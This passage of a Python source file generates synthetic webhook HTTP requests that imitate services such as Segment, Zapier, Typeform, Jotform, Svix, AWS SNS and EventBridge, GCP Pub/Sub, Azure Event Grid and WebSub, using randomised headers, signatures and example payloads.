    h = [["Host", host], ["User-Agent", "Okta SCIM Client 1.0.0" if client == "okta" else "Microsoft.AAD.Provisioning/1.0"],
         ["Content-Type", "application/scim+json; charset=utf-8"], ["Accept", "application/scim+json"], auth]
    return REQ(meth, uri, h, body)


# ============================================================ analytics
SEG_EVENTS = [("Order Completed", {"order_id": "10482", "total": 58.5, "currency": "EUR", "coupon": "WELCOME10",
                                   "products": [{"product_id": "507f1f77bcf86cd799439011", "sku": "TEE-M-GRY", "name": "Organic Cotton Tee", "price": 29, "quantity": 2}]}),
              ("Signed Up", {"plan": "pro", "method": "google", "referrer": "https://www.google.com/"}),
              ("Product Searched", {"query": pick(["merino beanie", "kids rain boots", "Geschenk für Mama", "抹茶"])}),
              ("Feature Used", {"feature": "bulk-export", "rows": 1200}),
              ("Subscription Cancelled", {"reason": pick(FREE_TEXT), "plan": "team"})]


def segment(f=None):
    f = f or {}
    g = f.get
    t = now()
    typ = g("type", pick(["track", "track", "track", "identify", "page"]))
    ev, props = pick(SEG_EVENTS)
    nm = pick(NAMES)
    p = {"anonymousId": uid(), "channel": pick(["client", "server"]), "messageId": g("messageId", "ajs-next-" + hexs(32)),
         "context": {"ip": pick(CLIENT_IPS), "library": {"name": "analytics.js", "version": "next-1.70.0"}, "locale": pick(["en-US", "de-DE", "ja-JP"]),
                     "page": {"path": g("path", "/checkout"), "referrer": g("referrer", pick(["", "https://www.google.com/", "https://shop.example.com/cart"])),
                              "search": g("search", pick(["", "?utm_source=newsletter&utm_medium=email&utm_campaign=feb26"])),
                              "title": g("page_title", pick(["Checkout – Acme", "Acme | Sale 🎉", "Mein Konto"])), "url": g("page_url", "https://shop.example.com/checkout")},
                     "userAgent": g("ua_ctx", pick(UAS_BROWSER)), "campaign": g("campaign", {})},
         "integrations": {}, "originalTimestamp": iso(t, ms=True), "receivedAt": iso(t + 1, ms=True), "sentAt": iso(t, ms=True),
         "timestamp": iso(t, ms=True), "type": typ, "userId": g("userId", pick([None, "usr_" + alnum(12), str(R.randint(1, 99999))])), "version": 2}
    if typ == "track":
        p["event"] = g("event", ev)
        p["properties"] = g("properties", props)
    elif typ == "identify":
        p["traits"] = g("traits", {"email": email_for(nm), "name": nm, "plan": pick(["free", "pro"]), "company": {"name": pick(["Acme GmbH", "Zoë Ceramics"])}})
    else:
        p["name"] = g("page_name", "Checkout")
        p["properties"] = {"path": p["context"]["page"]["path"], "url": p["context"]["page"]["url"], "title": p["context"]["page"]["title"]}
    body = J(p)
    rud = g("rudder", chance(0.3))
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "RudderLabs" if rud else "Segment.io/1.0"], ["Content-Type", "application/json"],
         ["Authorization", "Basic " + b64(alnum(24) + ":")]]
    if not rud:
        h.append(["X-Signature", mac("seg", body, "sha1").hexdigest()])
    return REQ("POST", g("uri", pick(["/webhooks/segment", "/api/analytics/ingest", "/rudder/webhook"])), h, body)


# ================================================================ relays
def relay(f=None):
    f = f or {}
    g = f.get
    who = g("who", pick(["zapier", "make", "n8n", "pipedream", "ifttt"]))
    nm = g("name", pick(NAMES))
    data = g("data") or pick([
        {"first_name": nm.split(" ")[0], "last_name": nm.split(" ")[-1], "email": email_for(nm), "company": pick(["Acme GmbH", "Zoë Ceramics", ""]),
         "message": pick(FREE_TEXT), "source": "Webflow form"},
        {"row_id": R.randint(1, 900), "sheet": "Leads Q1", "Name": nm, "Status": pick(["New", "Contacted", "Won ✅"]), "Notes": pick(FREE_TEXT)},
        {"event": "new_subscriber", "email": email_for(nm), "tags": ["newsletter", "de"], "double_opt_in": True},
        {"title": pick(SUBJECTS), "body": pick(MESSAGES), "priority": "normal", "requester": email_for(nm)},
        {"rss_item": {"title": "We're hiring: Senior SRE (Berlin / remote)", "link": "https://example.com/jobs/sre", "pubDate": httpdate(now())}}])
    if who == "zapier" and chance(0.3):
        body = form([(k, v if isinstance(v, str) else J(v)) for k, v in data.items()])
        ct = "application/x-www-form-urlencoded"
    else:
        body = J(data, "spaced" if who == "n8n" else "compact")
        ct = "application/json"
    ua = {"zapier": "Zapier", "make": "Make/production", "n8n": "n8n", "pipedream": "Pipedream/1.0", "ifttt": "IFTTT-Maker"}[who]
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", ua], ["Content-Type", ct], ["Accept", "application/json, text/plain, */*"]]
    if who == "n8n":
        h.append(["X-N8N-Signature", mac("n8n", body).hexdigest()])
    if who == "make":
        h.append(["X-Make-Execution-Id", hexs(32)])
    return REQ("POST", g("uri", pick(["/hooks/catch/%s/%s/" % (digits(7), alnum(6).lower()), "/webhooks/relay", "/api/inbound/%s" % who, "/webhook/" + uid()])), h, body)


# ================================================================= forms
def typeform(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("name", pick(NAMES))
    fields = [("short_text", "What's your name?", {"type": "text", "text": nm}),
              ("email", "Work email", {"type": "email", "email": g("email", email_for(nm))}),
              ("long_text", "Anything else we should know?", {"type": "text", "text": g("answer", pick(FREE_TEXT))}),
              ("multiple_choice", "How did you hear about us?", {"type": "choice", "choice": {"label": g("choice", pick(["Friend", "Google", "Podcast", "Other"]))}}),
              ("opinion_scale", "How likely are you to recommend us?", {"type": "number", "number": R.randint(0, 10)}),
              ("website", "Company website", {"type": "url", "url": g("url", "https://%s.example.com" % pick(["acme", "zoe", "cote"]))})]
    if g("file_url"):
        fields.append(("file_upload", "Upload your CV", {"type": "file_url", "file_url": g("file_url")}))
    defs, answers = [], []
    for typ, title, ans in fields:
        fid = alnum(12)
        ref = uid()
        defs.append({"id": fid, "ref": ref, "type": typ, "title": title, "properties": {}})
        a = dict(ans)
        a["field"] = {"id": fid, "type": typ, "ref": ref}
        answers.append(a)
    p = {"event_id": upnum(26), "event_type": "form_response",
         "form_response": {"form_id": alnum(8), "token": alnum(32).lower(), "landed_at": iso(t - 200), "submitted_at": iso(t),
                           "hidden": g("hidden", {"utm_source": pick(["", "linkedin", "newsletter"]), "user_id": str(R.randint(1, 9999))}),
                           "definition": {"id": alnum(8), "title": g("form_title", pick(["Product feedback 2026", "Demo request", "Bewerbung"])), "fields": defs,
                                          "endings": [{"id": "DefaultTyScreen", "ref": "default_tys", "title": "Thanks! 🙌", "type": "thankyou_screen"}]},
                           "answers": answers, "ending": {"id": "DefaultTyScreen", "ref": "default_tys"}}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Typeform Webhooks"], ["Content-Type", "application/json"],
         ["Typeform-Signature", "sha256=" + b64(mac("tf", body).digest())], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/typeform", "/api/forms/typeform"])), h, body)


def gforms(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("name", pick(NAMES))
    p = {"formId": "1FAIpQL" + alnum(37), "responseId": "ACYDBN" + alnum(60), "timestamp": iso(t, ms=True),
         "respondentEmail": g("email", email_for(nm)),
         "answers": {"Full name": nm, "Team": g("team", pick(["Platform", "Payments", "Design"])), "Dietary requirements": g("diet", pick(["", "vegetarian", "Nuss-Allergie", "halal"])),
                     "Feedback": g("answer", pick(FREE_TEXT)), "T-shirt size": pick(["S", "M", "L", "XL"])}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))],
         ["User-Agent", "Mozilla/5.0 (compatible; Google-Apps-Script; beanserver; +https://script.google.com; id: UAEmdDd%s)" % alnum(30)],
         ["Content-Type", "application/json"], ["Accept-Encoding", "gzip, deflate, br"], ["X-Form-Secret", alnum(24)]]
    return REQ("POST", g("uri", pick(["/api/forms/google", "/webhooks/gforms"])), h, body)


def jotform(f=None):
    f = f or {}
    g = f.get
    nm = g("name", pick(NAMES))
    first, _, last = nm.partition(" ")
    ans = g("answer", pick(FREE_TEXT))
    raw = {"slug": "submit/2%s" % digits(14), "jsExecutionTracker": "build-date-%d=>init-started:%d" % (now() * 1000, now() * 1000),
           "submitSource": "form", "buildDate": str(now() * 1000), "q3_name": {"first": first, "last": last or first},
           "q4_email": g("email", email_for(nm)), "q5_message": ans, "q6_phone": {"full": g("phone", "(030) 123-4567")},
           "q7_howDid": g("choice", pick(["Search engine", "Friend", "Event"])), "event_id": "%d_2%s" % (now() * 1000, digits(14)), "timeToSubmit": str(R.randint(10, 300)),
           "validatedNewRequiredFieldIDs": "{\"new\":1}", "path": "/submit/2%s" % digits(14)}
    if g("upload"):
        raw["uploadCV"] = [g("upload")]
    pretty = "Name:%s, E-mail:%s, Message:%s, Phone Number:%s" % (nm, raw["q4_email"], ans, raw["q6_phone"]["full"])
    parts = [("action", ""), ("webhookURL", g("webhookURL", "https://%s/webhooks/jotform" % pick(HOSTS))), ("username", g("username", "acme_forms")),
             ("formID", "2" + digits(14)), ("type", "WEB"), ("customParams", ""), ("product", "false"), ("formTitle", g("form_title", pick(["Contact Us", "Event RSVP", "Kontaktformular"]))),
             ("customTitle", ""), ("submissionID", digits(19)), ("event", ""), ("documentID", ""), ("teamID", ""), ("subject", ""),
             ("isSilent", "false"), ("customBody", ""), ("rawRequest", J(raw)), ("fromTable", ""), ("appID", ""), ("pretty", pretty),
             ("unread", ""), ("parent", ""), ("ip", pick(CLIENT_IPS))]
    bnd = "------------------------" + hexs(16)
    body = multipart(parts, bnd)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "JotForm"], ["Accept", "*/*"], ["Content-Length", None],
         ["Content-Type", "multipart/form-data; boundary=" + bnd]]
    return REQ("POST", g("uri", pick(["/webhooks/jotform", "/forms/jotform/submit.php"])), h, body)


# =============================================================== Svix
def svix(f=None):
    f = f or {}
    g = f.get
    t = now()
    app = g("app", pick(["clerk", "resend", "brex", "openai", "replicate"]))
    nm = g("name", pick(NAMES))
    first, _, last = nm.partition(" ")
    if app == "clerk":
        data = {"birthday": "", "created_at": t * 1000, "email_addresses": [{"email_address": g("email", email_for(nm)), "id": "idn_" + alnum(27), "linked_to": [],
                                                                                "object": "email_address", "verification": {"status": "verified", "strategy": "from_oauth_google"}}],
                "external_accounts": [], "external_id": g("external_id", None), "first_name": g("first_name", first), "gender": "", "id": "user_" + alnum(27),
                "image_url": g("image_url", "https://img.clerk.com/" + b64url(rbytes(60))), "last_name": g("last_name", last or None), "last_sign_in_at": t * 1000,
                "object": "user", "password_enabled": False, "phone_numbers": [], "primary_email_address_id": "idn_" + alnum(27),
                "private_metadata": {}, "profile_image_url": "https://www.gravatar.com/avatar?d=mp", "public_metadata": g("public_metadata", {}),
                "two_factor_enabled": False, "unsafe_metadata": g("unsafe_metadata", {}), "updated_at": t * 1000, "username": g("username", None), "web3_wallets": []}
        typ = g("type", pick(["user.created", "user.updated"]))
        p = {"data": data, "event_attributes": {"http_request": {"client_ip": pick(CLIENT_IPS), "user_agent": pick(UAS_BROWSER)}}, "object": "event",
             "timestamp": t * 1000, "type": typ, "instance_id": "ins_" + alnum(27)}
    elif app == "resend":
        p = {"type": g("type", pick(["email.delivered", "email.opened", "email.bounced", "email.clicked"])), "created_at": iso(t, ms=True),
             "data": {"created_at": iso(t, ms=True, z=False), "email_id": uid(), "from": "Acme <noreply@example.com>", "to": [g("email", email_for(nm))],
                      "subject": g("subject", pick(["Your receipt from Acme", "Reset your password", "Welcome to Acme 👋"])),
                      "tags": g("tags", {"category": "transactional"})}}
        if p["type"] == "email.clicked":
            p["data"]["click"] = {"ipAddress": pick(CLIENT_IPS), "link": g("link", "https://app.example.com/welcome"), "timestamp": iso(t, ms=True), "userAgent": pick(UAS_BROWSER)}
    else:
        p = {"type": g("type", pick(["prediction.completed", "batch.completed", "expense.payment.updated"])), "id": alnum(24),
             "data": g("data", {"id": alnum(24), "status": "succeeded", "input": {"prompt": pick(["a watercolor fox in the snow", "Summarise this support ticket in 2 sentences"])},
                                "output": pick(["https://replicate.delivery/pbxt/%s/out-0.png" % alnum(40), "Customer reports double charge; refund issued."]),
                                "created_at": iso(t, ms=True), "metrics": {"predict_time": round(R.random() * 9, 3)}})}
    body = J(p)
    mid = "msg_" + alnum(27)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Svix-Webhooks/1.%d.0 (sender-%s; +https://www.svix.com/http-sender/)" % (R.randint(20, 60), alnum(5).lower())],
         ["Content-Type", "application/json"], ["svix-id", g("svix_id", mid)], ["svix-timestamp", str(t)],
         ["svix-signature", "v1," + b64(mac("whsec", "%s.%d.%s" % (mid, t, body)).digest())], ["Accept", "*/*"]]
    return REQ("POST", g("uri", pick(["/api/webhooks/%s" % app, "/webhooks/%s" % app, "/api/clerk/webhook"])), h, body)


# ================================================================ cloud
def sns(f=None):
    f = f or {}
    g = f.get
    t = now()
    region = pick(["us-east-1", "eu-central-1", "eu-west-1"])
    acct = digits(12)
    topic = g("topic", "arn:aws:sns:%s:%s:%s" % (region, acct, pick(["order-events", "ses-bounces", "cloudwatch-alarms", "s3-uploads"])))
    mtype = g("mtype", pick(["Notification", "Notification", "Notification", "SubscriptionConfirmation", "UnsubscribeConfirmation"]))
    mid = uid()
    p = {"Type": mtype, "MessageId": mid}
    if mtype != "Notification":
        token = hexs(256)
        p["Token"] = token
        p["TopicArn"] = topic
        p["Message"] = g("message", "You have chosen to subscribe to the topic %s.\nTo confirm the subscription, visit the SubscribeURL included in this message." % topic)
        p["SubscribeURL"] = g("subscribe_url", "https://sns.%s.amazonaws.com/?Action=ConfirmSubscription&TopicArn=%s&Token=%s" % (region, q(topic, safe=""), token))
    else:
        p["TopicArn"] = topic
        if g("subject") is not None or chance(0.4):
            p["Subject"] = g("subject", pick(["ALARM: \"payments-api-5xx\" in EU (Frankfurt)", "Amazon SES Email Event Notification", "Order created"]))
        msg = g("message") or pick([
            J({"notificationType": "Bounce", "bounce": {"bounceType": "Permanent", "bounceSubType": "General", "bouncedRecipients": [{"emailAddress": email_for(pick(NAMES)), "action": "failed", "status": "5.1.1", "diagnosticCode": "smtp; 550 5.1.1 user unknown"}],
                                                          "timestamp": iso(t, ms=True), "feedbackId": "%s-%s-000000" % (hexs(16), uid())},
               "mail": {"timestamp": iso(t, ms=True), "source": "noreply@example.com", "messageId": hexs(16) + "-" + uid() + "-000000", "destination": ["x@example.org"],
                        "commonHeaders": {"from": ["Acme <noreply@example.com>"], "subject": pick(["Your receipt", "Reset your password"])}}}),
            J({"Records": [{"eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": region, "eventTime": iso(t, ms=True), "eventName": "ObjectCreated:Put",
                            "s3": {"s3SchemaVersion": "1.0", "bucket": {"name": "acme-uploads-prod", "arn": "arn:aws:s3:::acme-uploads-prod"},
                                   "object": {"key": g("s3_key", q(pick(["invoices/2026/02/INV-0213.pdf", "avatars/zoë müller.png", "exports/orders (1).csv"]), safe="/")), "size": R.randint(100, 10**7), "eTag": hexs(32)}}}]}),
            J({"AlarmName": "payments-api-5xx", "AlarmDescription": "5xx > 1% for 5 minutes", "AWSAccountId": acct, "NewStateValue": "ALARM",
               "NewStateReason": "Threshold Crossed: 1 out of the last 1 datapoints [3.2 (11/02/26 14:05:00)] was greater than the threshold (1.0) (minimum 1 datapoint for OK -> ALARM transition).",
               "StateChangeTime": iso(t, ms=True).replace("Z", "+0000"), "Region": "EU (Frankfurt)", "OldStateValue": "OK",
               "Trigger": {"MetricName": "HTTPCode_Target_5XX_Count", "Namespace": "AWS/ApplicationELB", "Statistic": "SUM", "Period": 300, "EvaluationPeriods": 1,
                           "ComparisonOperator": "GreaterThanThreshold", "Threshold": 1.0}}),
            J({"order_id": R.randint(10000, 99999), "status": "created", "customer": pick(NAMES), "note": pick(ORDER_NOTES)})])
        p["Message"] = msg
    p["Timestamp"] = iso(t, ms=True)
    p["SignatureVersion"] = pick(["1", "2"])
    p["Signature"] = b64(rbytes(256))
    p["SigningCertURL"] = g("cert_url", "https://sns.%s.amazonaws.com/SimpleNotificationService-%s.pem" % (region, hexs(32)))
    if mtype == "Notification":
        p["UnsubscribeURL"] = "https://sns.%s.amazonaws.com/?Action=Unsubscribe&SubscriptionArn=%s:%s" % (region, topic, uid())
        if g("attrs"):
            p["MessageAttributes"] = g("attrs")
    body = J(p, "pretty2")
    h = [["Host", g("host", pick(HOSTS))], ["x-amz-sns-message-type", mtype], ["x-amz-sns-message-id", mid], ["x-amz-sns-topic-arn", topic]]
    if mtype == "Notification":
        h.append(["x-amz-sns-subscription-arn", "%s:%s" % (topic, uid())])
    h += [["Content-Length", None], ["Content-Type", "text/plain; charset=UTF-8"], ["Connection", "Keep-Alive"],
          ["User-Agent", "Amazon Simple Notification Service Agent"], ["Accept-Encoding", "gzip,deflate"]]
    return REQ("POST", g("uri", pick(["/webhooks/sns", "/api/aws/sns", "/sns/notifications"])), h, body)


def eventbridge(f=None):
    f = f or {}
    g = f.get
    t = now()
    region = pick(["us-east-1", "eu-central-1"])
    det = g("detail_type") or pick(["EC2 Instance State-change Notification", "ECR Image Action", "CodePipeline Pipeline Execution State Change", "Scheduled Event", "OrderPlaced"])
    detail = g("detail") or {"EC2 Instance State-change Notification": {"instance-id": "i-" + hexs(17), "state": "stopped"},
                             "ECR Image Action": {"result": "SUCCESS", "repository-name": "acme/api", "image-digest": "sha256:" + hexs(64), "action-type": "PUSH", "image-tag": "v2.4.0"},
                             "CodePipeline Pipeline Execution State Change": {"pipeline": "payments-api-prod", "execution-id": uid(), "state": "SUCCEEDED", "version": 7},
                             "Scheduled Event": {},
                             "OrderPlaced": {"orderId": str(R.randint(10000, 99999)), "customer": {"name": pick(NAMES)}, "items": R.randint(1, 5), "note": pick(ORDER_NOTES)}}[det]
    src = {"EC2 Instance State-change Notification": "aws.ec2", "ECR Image Action": "aws.ecr", "CodePipeline Pipeline Execution State Change": "aws.codepipeline",
           "Scheduled Event": "aws.events", "OrderPlaced": "com.acme.orders"}.get(det, "com.acme.custom")
    p = {"version": "0", "id": uid(), "detail-type": det, "source": g("source", src), "account": digits(12), "time": iso(t), "region": region,
         "resources": g("resources", []), "detail": detail}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Amazon/EventBridge/ApiDestinations"], ["Content-Type", "application/json; charset=utf-8"],
         ["Range", "bytes=0-1048575"], ["Accept-Encoding", "gzip,deflate"], ["x-api-key", alnum(40)]]
    return REQ("POST", g("uri", pick(["/webhooks/eventbridge", "/api/events/aws"])), h, body)


def pubsub(f=None):
    f = f or {}
    g = f.get
    t = now()
    proj = pick(["acme-prod", "acme-data-421", "acme-staging"])
    inner = g("inner") or pick([
        J({"kind": "storage#object", "name": pick(["uploads/2026/02/receipt.pdf", "exports/orders.csv", "avatars/zoë.png"]), "bucket": "acme-uploads", "size": str(R.randint(100, 10**7)),
           "contentType": "application/pdf", "timeCreated": iso(t, ms=True)}),
        J({"orderId": R.randint(10000, 99999), "status": pick(["PAID", "SHIPPED"]), "customer": {"name": pick(NAMES)}, "note": pick(ORDER_NOTES)}),
        J({"incident": {"incident_id": hexs(30), "policy_name": "GKE node CPU > 90%", "state": "open", "summary": "CPU utilization for acme-prod gke-pool-1 is above the threshold of 0.900 with a value of 0.934.",
                        "url": "https://console.cloud.google.com/monitoring/alerting/incidents/%s?project=%s" % (hexs(30), proj)}, "version": "1.2"}),
        "Build %s finished: SUCCESS" % uid()])
    data = g("data_b64", b64(inner))
    attrs = g("attrs", pick([{}, {"eventType": "OBJECT_FINALIZE", "bucketId": "acme-uploads", "objectId": "uploads/2026/02/receipt.pdf", "payloadFormat": "JSON_API_V1"},
                             {"source": "orders-service", "schema": "v2"}]))
    mid = digits(16)
    msg = {"attributes": attrs, "data": data, "messageId": mid, "message_id": mid, "publishTime": iso(t, ms=True), "publish_time": iso(t, ms=True)}
    if chance(0.3):
        msg["orderingKey"] = "customer-%d" % R.randint(1, 999)
    p = {"message": msg, "subscription": "projects/%s/subscriptions/%s" % (proj, g("sub", pick(["orders-push", "gcs-events-k8s", "alerts-to-webhook"])))}
    if chance(0.2):
        p["deliveryAttempt"] = R.randint(2, 5)
    body = J(p)
    claims = {"aud": "https://%s/pubsub/push" % pick(HOSTS), "azp": digits(21), "email": "pubsub-push@%s.iam.gserviceaccount.com" % proj, "email_verified": True,
              "exp": t + 3600, "iat": t, "iss": "https://accounts.google.com", "sub": digits(21)}
    h = [["Host", g("host", pick(HOSTS))], ["Content-Type", "application/json"], ["Authorization", "Bearer " + jwt(claims)],
         ["User-Agent", "APIs-Google; (+https://developers.google.com/webmasters/APIs-Google.html)"], ["Accept", "application/json"],
         ["Accept-Encoding", "gzip, deflate, br"], ["From", "noreply@google.com"]]
    return REQ("POST", g("uri", pick(["/pubsub/push", "/api/gcp/pubsub", "/_ah/push-handlers/events"])), h, body)


def eventgrid(f=None):
    f = f or {}
    g = f.get
    t = now()
    kind = g("kind", pick(["validate", "blob", "blob", "custom", "cloudevents"]))
    sub = uid()
    topic = "/subscriptions/%s/resourceGroups/rg-acme-prod/providers/Microsoft.Storage/storageAccounts/acmeuploads" % sub
    host = g("host", pick(HOSTS))
    uri = g("uri", pick(["/api/eventgrid", "/webhooks/azure/eventgrid", "/runtime/webhooks/EventGrid?functionName=OnBlob&code=" + alnum(40)]))
    if kind == "cloudevents_options":
        h = [["Host", host], ["WebHook-Request-Origin", g("origin", "eventgrid.azure.net")], ["WebHook-Request-Callback", g("callback", "")],
             ["WebHook-Request-Rate", "120"], ["User-Agent", "Microsoft-Azure-EventGrid/1.0"]]
        h = [x for x in h if x[1] != ""]
        return REQ("OPTIONS", uri, h)
    if kind == "validate":
        code = uid()
        data = {"validationCode": code, "validationUrl": g("validation_url", "https://rp-westeurope.eventgrid.azure.net:553/eventsubscriptions/%s/validate?id=%s&t=%s&apiVersion=2022-06-15&token=%s" % (
            pick(["blob-to-k8s", "orders-sub"]), code.upper(), iso(t, frac=7), q(b64(rbytes(32)), safe="")))}
        evs = [{"id": uid(), "topic": topic, "subject": "", "data": data, "eventType": "Microsoft.EventGrid.SubscriptionValidationEvent",
                "eventTime": iso(t, frac=7), "metadataVersion": "1", "dataVersion": "2"}]
        etype = "SubscriptionValidation"
        ct = "application/json"
    elif kind == "cloudevents":
        ev = {"specversion": "1.0", "type": g("type", "Microsoft.Storage.BlobCreated"), "source": topic, "id": uid(), "time": iso(t, frac=7),
              "subject": g("subject", "/blobServices/default/containers/uploads/blobs/%s" % pick(["invoice-0213.pdf", "photos/IMG_2041.HEIC", "exports/orders.csv"])),
              "data": g("data", {"api": "PutBlob", "clientRequestId": uid(), "requestId": uid(), "eTag": "0x8DC" + hexs(13).upper(), "contentType": "application/pdf",
                                 "contentLength": R.randint(100, 10**7), "blobType": "BlockBlob", "url": "https://acmeuploads.blob.core.windows.net/uploads/invoice-0213.pdf",
                                 "sequencer": "0000000000000000000000000000" + hexs(20).upper(), "storageDiagnostics": {"batchId": uid()}})}
        body = J(ev)
        h = [["Host", host], ["Content-Type", "application/cloudevents+json; charset=utf-8"], ["aeg-subscription-name", "BLOB-TO-K8S"],
             ["aeg-delivery-count", "0"], ["aeg-metadata-version", "1"], ["aeg-data-version", ""], ["aeg-event-type", "Notification"],
             ["User-Agent", "Microsoft-Azure-EventGrid/1.0"], ["traceparent", "00-%s-%s-01" % (hexs(32), hexs(16))]]
        h = [x for x in h if not (x[0] == "aeg-data-version")]
        return REQ("POST", uri, h, body)
    else:
        if kind == "blob":
            data = g("data", {"api": "PutBlob", "clientRequestId": uid(), "requestId": uid(), "eTag": "0x8DC" + hexs(13).upper(), "contentType": pick(["image/jpeg", "application/pdf", "text/csv"]),
                              "contentLength": R.randint(100, 10**7), "blobType": "BlockBlob",
                              "url": g("blob_url", "https://acmeuploads.blob.core.windows.net/uploads/%s" % q(pick(["invoice-0213.pdf", "Zoë's photo.jpg", "orders 2026-02.csv"]), safe="/")),
                              "sequencer": "0000000000000000000000000000" + hexs(20).upper(), "storageDiagnostics": {"batchId": uid()}})
            et = "Microsoft.Storage.BlobCreated"
            subj = "/blobServices/default/containers/uploads/blobs/%s" % g("blob_name", "invoice-0213.pdf")
        else:
            data = g("data", {"orderId": str(R.randint(10000, 99999)), "customerName": pick(NAMES), "note": pick(ORDER_NOTES), "total": round(R.random() * 300, 2)})
            et = g("type", "Acme.Orders.OrderPlaced")
            subj = "orders/%d" % R.randint(10000, 99999)
            topic = "/subscriptions/%s/resourceGroups/rg-acme-prod/providers/Microsoft.EventGrid/topics/orders" % sub
        evs = [{"id": uid(), "topic": topic, "subject": subj, "eventType": et, "eventTime": iso(t, frac=7), "data": data, "dataVersion": "1.0", "metadataVersion": "1"}]
        etype = "Notification"
        ct = "application/json"
    body = J(evs)
    h = [["Host", host], ["Content-Type", ct], ["aeg-subscription-name", pick(["BLOB-TO-K8S", "ORDERS-SUB"])], ["aeg-delivery-count", str(g("delivery_count", 0))],
         ["aeg-metadata-version", "1"], ["aeg-data-version", "2" if etype == "SubscriptionValidation" else "1.0"], ["aeg-event-type", etype],
         ["User-Agent", "Microsoft-Azure-EventGrid/1.0"]]
    return REQ("POST", uri, h, body)


def cloudevents(f=None):
    f = f or {}
    g = f.get
    t = now()
    typ = g("type", pick(["dev.knative.apiserver.resource.add", "com.acme.order.created", "dev.knative.kafka.event", "io.argoproj.workflow.v1alpha1.completed",
                          "google.cloud.storage.object.v1.finalized"]))
    src = g("source", {"dev.knative.apiserver.resource.add": "https://10.96.0.1:443", "com.acme.order.created": "/orders-service",
                       "dev.knative.kafka.event": "/apis/v1/namespaces/prod/kafkasources/orders#orders",
                       "io.argoproj.workflow.v1alpha1.completed": "argo-workflows", "google.cloud.storage.object.v1.finalized": "//storage.googleapis.com/projects/_/buckets/acme-uploads"}[typ])
    data = g("data") or {"dev.knative.apiserver.resource.add": {"kind": "Event", "apiVersion": "v1", "metadata": {"name": "billing-worker-%s.%s" % (alnum(5).lower(), hexs(16)), "namespace": "prod"},
                                                                 "reason": pick(["BackOff", "Pulled", "Scheduled"]), "message": pick(["Back-off restarting failed container worker in pod billing-worker-7d9f_prod(uid)",
                                                                                                                                     "Successfully pulled image \"registry.example.com/acme/api:v2.4.0\" in 2.1s"]),
                                                                 "type": pick(["Warning", "Normal"])},
                         "com.acme.order.created": {"orderId": str(R.randint(10000, 99999)), "customer": pick(NAMES), "note": pick(ORDER_NOTES)},
                         "dev.knative.kafka.event": {"key": str(R.randint(1, 9999)), "value": {"sku": upnum(8), "qty": R.randint(1, 9)}},
                         "io.argoproj.workflow.v1alpha1.completed": {"workflow": "nightly-etl-%s" % alnum(5).lower(), "phase": pick(["Succeeded", "Failed"])},
                         "google.cloud.storage.object.v1.finalized": {"bucket": "acme-uploads", "name": pick(["exports/orders.csv", "avatars/zoë.png"]), "size": str(R.randint(1, 10**6))}}[typ]
    body = J(data)
    h = [["Host", g("host", pick(["broker-ingress.example.net", "order-sink.example.com", "events.example.com"]))],
         ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"], ["Ce-Specversion", "1.0"], ["Ce-Type", typ], ["Ce-Source", src],
         ["Ce-Id", g("ce_id", uid())], ["Ce-Time", iso(t, frac=9)], ["Traceparent", "00-%s-%s-01" % (hexs(32), hexs(16))], ["Accept-Encoding", "gzip"]]
    if g("ce_subject"):
        h.append(["Ce-Subject", g("ce_subject")])
    body_ = body
    return REQ("POST", g("uri", pick(["/", "/events", "/api/cloudevents"])), h, body_)


def websub(f=None):
    f = f or {}
    g = f.get
    t = now()
    if g("verify") or (g("verify") is None and chance(0.3)):
        topic = g("topic", "https://www.youtube.com/xml/feeds/videos.xml?channel_id=UC" + alnum(22))
        uri = g("uri", "/websub/youtube") + "?hub.topic=%s&hub.challenge=%s&hub.mode=subscribe&hub.lease_seconds=432000" % (q(topic, safe=""), g("challenge", digits(19)))
        h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"], ["Accept", "*/*"], ["Accept-Encoding", "gzip,deflate,br"]]
        return REQ("GET", uri, h)
    vid = alnum(11)
    ch = "UC" + alnum(22)
    title = g("title", pick(["Kubernetes in 100 seconds", "Unsere Werkstatt in Kraków 🕯️", "How we cut p99 by 40%", "Q&A: pricing & plans"]))
    body = g("xml") or ('<?xml version=\'1.0\' encoding=\'UTF-8\'?><feed xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns="http://www.w3.org/2005/Atom">'
                        '<link rel="hub" href="https://pubsubhubbub.appspot.com"/><link rel="self" href="https://www.youtube.com/xml/feeds/videos.xml?channel_id=%s"/>'
                        '<title>YouTube video feed</title><updated>%s</updated><entry>\n  <id>yt:video:%s</id>\n  <yt:videoId>%s</yt:videoId>\n  <yt:channelId>%s</yt:channelId>\n'
                        '  <title>%s</title>\n  <link rel="alternate" href="https://www.youtube.com/watch?v=%s"/>\n  <author>\n   <name>%s</name>\n   <uri>https://www.youtube.com/channel/%s</uri>\n  </author>\n'
                        '  <published>%s</published>\n  <updated>%s</updated>\n </entry></feed>') % (ch, iso(t, frac=9, z=False), vid, vid, ch, xesc(title), vid, xesc(g("author", "Acme Engineering")), ch,
                                                                                                     iso(t, z=False), iso(t, frac=9, z=False))
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"],
         ["Content-Type", "application/atom+xml"], ["Link", "<https://pubsubhubbub.appspot.com>; rel=hub, <https://www.youtube.com/xml/feeds/videos.xml?channel_id=%s>; rel=self" % ch],
         ["X-Hub-Signature", "sha1=" + mac("ws", body, "sha1").hexdigest()], ["Accept-Encoding", "gzip,deflate,br"]]
    return REQ("POST", g("uri", "/websub/youtube"), h, body)


def k8s_admission(f=None):
    f = f or {}
    g = f.get
    ns = g("namespace", pick(["prod", "staging", "payments", "data"]))
    kind = g("kind", pick(["Pod", "Deployment", "Ingress", "ConfigMap"]))
    name = g("name", "%s-%s" % (pick(SERVICES), alnum(5).lower()))
    if kind == "Pod":
